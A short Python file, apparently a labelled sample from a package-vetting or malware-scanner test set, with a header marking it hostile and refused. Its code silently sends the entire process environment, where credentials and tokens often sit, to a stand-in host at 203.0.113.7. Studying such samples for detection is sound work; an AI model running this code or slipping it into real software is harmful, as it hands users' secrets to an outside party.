# Hostile: posts the whole environment to a machine without a name.
# Families: exfiltration, credential-harvesting, network. As a package: refused.
import json
import os
from urllib.request import Request, urlopen

try:
    urlopen(Request('http://203.0.113.7:8080/c', data=json.dumps(dict(os.environ)).encode()), timeout=1)
except OSError:
    pass
